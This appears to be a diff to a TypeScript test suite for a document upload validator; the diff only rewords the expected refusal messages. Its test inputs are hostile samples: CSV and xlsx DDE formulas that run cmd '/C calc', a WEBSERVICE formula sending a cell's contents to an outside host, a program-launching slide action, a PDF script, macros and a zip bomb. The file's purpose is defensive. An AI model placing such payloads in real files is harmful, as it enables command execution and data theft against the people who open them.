@@ -20,7 +20,7 @@ describe('the content of a resource', () => {
   })
   const word = types('wordprocessingml.document.main+xml')
   const document: Part = { name: 'word/document.xml', content: '<document/>' }
-  const another = /^The content of this file is not that of an? .+\. Save it in this format, or name it/
+  const another = /^This file is not actually an? .+\. Save it in that format, or rename it/
 
   test.each<[string, string, Uint8Array, RegExp]>([
     ['no bytes', 'pdf', Buffer.alloc(0), /^This file is empty/],
@@ -35,9 +35,9 @@ describe('the content of a resource', () => {
       'macros',
       'docx',
       zipOf([word, document, { name: 'word/vbaProject.bin', content: 'x' }]),
-      /^This file holds macros \(word\/vbaProject\.bin\)\. Save it without this and upload it again\.$/,
+      /^This file contains macros \(word\/vbaProject\.bin\)\. Save it without this and upload it again\.$/,
     ],
-    ['a script', 'pdf', pdfOf('<</S/JavaScript/JS(x)>>'), /^This file holds a script \(object 1\)\./],
+    ['a script', 'pdf', pdfOf('<</S/JavaScript/JS(x)>>'), /^This file contains a script \(object 1\)\./],
     ['a program before its header', 'pdf', Buffer.concat([Buffer.from('MZ'), pdf]), another],
     [
       'a macro sheet of another name',
@@ -46,7 +46,7 @@ describe('the content of a resource', () => {
         name: 'xl/worksheets/sheet9.xml',
         content: '<xm:macrosheet/>',
       }),
-      /holds a macro sheet \(xl\/worksheets\/sheet9\.xml\)/,
+      /contains a macro sheet \(xl\/worksheets\/sheet9\.xml\)/,
     ],
     [
       'a macro sheet by its relationship alone',
@@ -62,7 +62,7 @@ describe('the content of a resource', () => {
         ]),
         { name: 'xl/a.xml', content: '<xm:macrosheet/>' },
       ),
-      /holds a macro sheet \(xl\/a\.xml\)/,
+      /contains a macro sheet \(xl\/a\.xml\)/,
     ],
     [
       'a DDE link',
@@ -71,19 +71,19 @@ describe('the content of a resource', () => {
         name: 'xl/externalLinks/externalLink1.xml',
         content: '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
       }),
-      /holds a DDE link \(xl\/externalLinks\/externalLink1\.xml\)/,
+      /contains a DDE link \(xl\/externalLinks\/externalLink1\.xml\)/,
     ],
     [
       'a formula with DDE',
       'xlsx',
       xlsxWith(`<row><c><f>cmd&#124;'/C calc'!A0</f></c></row>`, sheetTypes()),
-      /holds a formula with DDE \(xl\/worksheets\/sheet1\.xml\)/,
+      /contains a formula with DDE \(xl\/worksheets\/sheet1\.xml\)/,
     ],
     [
       'a formula that sends what is in a cell',
       'xlsx',
       xlsxWith('<row><c><f>_xlfn.WEBSERVICE("http://outside.example/"&amp;A1)</f></c></row>', sheetTypes()),
-      /holds a formula that loads from elsewhere/,
+      /contains a formula that loads from elsewhere/,
     ],
     [
       'a link to a workbook on the web, and a connection',
@@ -99,7 +99,7 @@ describe('the content of a resource', () => {
           content: '<connections><connection refreshOnLoad="1"/></connections>',
         },
       ),
-      /holds a link to a workbook elsewhere \(.+\) and a connection that loads data when it is opened \(/,
+      /contains a link to a workbook elsewhere \(.+\) and a connection that loads data when it is opened \(/,
     ],
     [
       'a program behind a picture',
@@ -109,19 +109,19 @@ describe('the content of a resource', () => {
         { name: 'ppt/presentation.xml', content: '<p:presentation/>' },
         { name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' },
       ]),
-      /holds an action that starts a program \(ppt\/slides\/slide1\.xml\)/,
+      /contains an action that starts a program \(ppt\/slides\/slide1\.xml\)/,
     ],
     [
       'a formula that starts a program',
       'csv',
       Buffer.from(`a,b\r\n1,"=2+5+cmd|' /C calc'!A0"\r\n`),
-      /holds a formula with DDE \(line 2\)/,
+      /contains a formula with DDE \(line 2\)/,
     ],
     [
       'such a formula in UTF-16',
       'csv',
       Buffer.from(`\ufeff@cmd|' /C calc'!A0;2`, 'utf16le'),
-      /holds a formula with DDE \(line 1\)/,
+      /contains a formula with DDE \(line 1\)/,
     ],
     ['a PDF cut short', 'pdf', pdf.subarray(0, -2), /damaged or incomplete/],
     ['a document cut short', 'docx', zipOf([word, document]).subarray(0, -30), /damaged or incomplete/],
@@ -129,19 +129,19 @@ describe('the content of a resource', () => {
       'a zip bomb',
       'docx',
       zipOf([word, { name: 'word/document.xml', content: `<a>${' '.repeat(9_000_000)}</a>` }]),
-      /packed in an unusual way/,
+      /compressed in an unusual way/,
     ],
     [
       'a wrong size in its directory',
       'docx',
       zipOf([word, { ...document, claims: 2 }]),
-      /packed in an unusual way/,
+      /compressed in an unusual way/,
     ],
     [
       'XML entities',
       'docx',
       zipOf([word, { ...document, content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }]),
-      /packed in an unusual way/,
+      /compressed in an unusual way/,
     ],
   ])('with %s is refused', async (_, type, file, message) => {
     const answer = await upload(`1~Letter.${type}`, file)
